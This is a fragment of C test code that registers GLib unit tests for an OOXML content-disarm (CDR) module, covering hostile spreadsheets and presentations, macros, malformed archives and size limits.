	g_test_add_func("/cdr/ooxml/link_misuse", test_link_misuse);
	g_test_add_func("/cdr/ooxml/strict_namespaces", test_strict_namespaces);
	g_test_add_func("/cdr/ooxml/excel_hostile", test_excel_hostile);
	g_test_add_func("/cdr/ooxml/excel_vml", test_excel_vml);
	g_test_add_func("/cdr/ooxml/excel_only_macros", test_excel_only_macros);
	g_test_add_func(
	    "/cdr/ooxml/powerpoint_hostile", test_powerpoint_hostile);
	g_test_add_func("/cdr/ooxml/images", test_images);
	g_test_add_func("/cdr/ooxml/names_encodings", test_names_encodings);
	g_test_add_func("/cdr/ooxml/long_member_name", test_long_member_name);
	g_test_add_func("/cdr/ooxml/malformed", test_malformed);
	g_test_add_func("/cdr/ooxml/bad_encoding", test_bad_encoding);
	g_test_add_func("/cdr/ooxml/zip_level", test_zip_level);
	g_test_add_func("/cdr/ooxml/limits", test_limits);
	g_test_add_func("/cdr/ooxml/truncated_damaged", test_truncated_damaged);
	g_test_add_func("/cdr/ooxml/bid", test_bid);
	g_test_add_func("/cdr/ooxml/corpus", test_corpus);
	return g_test_run();
}
